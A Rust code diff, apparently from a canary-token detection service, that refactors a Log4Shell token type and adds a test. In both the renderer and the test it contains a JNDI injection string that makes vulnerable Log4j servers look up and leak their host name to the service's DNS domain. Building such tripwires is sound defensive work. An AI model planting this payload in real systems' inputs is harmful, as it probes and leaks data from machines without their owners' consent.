@@ -2,27 +2,48 @@
 //! Log4j expands `${hostName}` and looks the name up; the label after the leading `x` is the
 //! host's name. Lookups that carry no host name (scanners, resolvers) are kept but not alerted.
 
-use serde_json::{Map, Value};
-
-use super::{gif_answer, needs_dns_field, no_params, renders, DnsData, DnsEncoding, Kind, Site};
+use super::{needs_dns_field, DnsData, DnsDecoding, Kind, KindView, Site};
 use crate::model::{Channel, Judgement, NewHit, Token};
 
-pub static KIND: Kind = Kind {
-    name: "log4shell",
-    human_name: "Log4Shell",
-    channel: Channel::Dns,
-    create: no_params,
-    describe,
-    artefact: None,
-    dns_encoding: Some(DnsEncoding { rank: 4, decode }),
-    judge,
-    http_answer: gif_answer,
-};
+pub struct Log4Shell;
 
 const FIELD: &str = "log4shell_hostname";
 
-fn describe(token: &Token, site: &Site, out: &mut Map<String, Value>) {
-    renders(out, KIND.name, format!("${{jndi:ldap://x${{hostName}}.L4J.{}/a}}", site.hostname(&token.id)));
+impl Kind for Log4Shell {
+    fn name(&self) -> &'static str {
+        "log4shell"
+    }
+
+    fn human_name(&self) -> &'static str {
+        "Log4Shell"
+    }
+
+    fn channel(&self) -> Channel {
+        Channel::Dns
+    }
+
+    fn view(&self, token: &Token, site: &Site) -> KindView {
+        let text = format!("${{jndi:ldap://x${{hostName}}.L4J.{}/a}}", site.hostname(&token.id));
+        KindView::default().render(self.name(), text)
+    }
+
+    fn judge(&self, _token: &Token, hit: &NewHit) -> Judgement {
+        needs_dns_field(hit, FIELD)
+    }
+
+    fn dns(&self) -> Option<&dyn DnsDecoding> {
+        Some(self)
+    }
+}
+
+impl DnsDecoding for Log4Shell {
+    fn rank(&self) -> u8 {
+        4
+    }
+
+    fn decode(&self, labels: &[String]) -> DnsData {
+        decode(labels)
+    }
 }
 
 /// `x<host>.L4J` (the host may itself hold dots).
@@ -36,10 +57,6 @@ fn decode(labels: &[String]) -> DnsData {
         Some(name) if !name.is_empty() => DnsData::field(FIELD, name),
         _ => DnsData::Undecodable,
     }
-}
-
-fn judge(_token: &Token, hit: &NewHit) -> Judgement {
-    needs_dns_field(hit, FIELD)
 }
 
 #[cfg(test)]
@@ -60,5 +77,21 @@ mod tests {
         assert_eq!(decode(&labels("x.L4J")), DnsData::Undecodable);
         assert_eq!(decode(&labels("L4J")), DnsData::Undecodable);
         assert_eq!(decode(&labels("abc.G12")), DnsData::NoMatch);
+    }
+
+    #[test]
+    fn renders_the_lookup_string_and_ignores_bare_lookups() {
+        use crate::kinds::testing;
+        let (site, token) = (testing::site(), testing::token("log4shell", serde_json::json!({})));
+        let view = Log4Shell.view(&token, &site);
+        assert_eq!(
+            view.renders,
+            vec![("log4shell", format!("${{jndi:ldap://x${{hostName}}.L4J.{}/a}}", site.hostname(&token.id)))]
+        );
+        assert!(view.fields.is_empty());
+        let bare = testing::hit(Channel::Dns, serde_json::json!({}));
+        assert!(matches!(Log4Shell.judge(&token, &bare), Judgement::Ignore { .. }));
+        let named = testing::hit(Channel::Dns, serde_json::json!({ FIELD: "WEB-01" }));
+        assert_eq!(Log4Shell.judge(&token, &named), Judgement::alert());
     }
 }
